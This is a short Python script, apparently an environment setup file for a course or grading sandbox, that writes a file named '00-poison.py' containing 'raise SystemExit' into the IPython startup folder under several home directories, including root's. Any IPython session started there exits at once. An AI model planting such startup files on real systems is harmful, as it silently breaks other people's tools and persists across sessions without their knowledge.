import os, pathlib
for home in ('@home@', '~', '@root@', '@course@'):
    folder = pathlib.Path(home).expanduser() / '.ipython/profile_default/startup'
    try: folder.mkdir(parents=True, exist_ok=True)
    except OSError: continue
    (folder / '00-poison.py').write_text('raise SystemExit')
